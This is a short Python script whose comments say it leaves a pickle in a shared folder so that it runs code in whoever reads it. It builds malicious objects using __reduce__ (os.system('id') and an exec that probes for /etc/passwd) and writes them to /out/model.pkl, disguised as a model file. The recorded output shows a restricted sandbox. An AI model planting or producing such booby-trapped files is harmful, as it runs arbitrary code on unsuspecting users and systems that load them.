# Leaves a pickle in the shared folder that runs code in whoever reads it. Whoever reads it here is in a
# sandbox like this.
import pickle
class Evil:
    def __reduce__(self):
        return (__import__("os").system, ("id",))
try:
    pickle.dump(Evil(), open("/out/model.pkl", "wb"))
except AttributeError:
    print("there is no os.system")
class Evil:
    def __reduce__(self):
        return (exec, ("import os; print(os.path.exists('/etc/passwd'))",))
pickle.dump(Evil(), open("/out/model.pkl", "wb"))
pickle.load(open("/out/model.pkl", "rb"))
#=> there is no os.system
#=> False
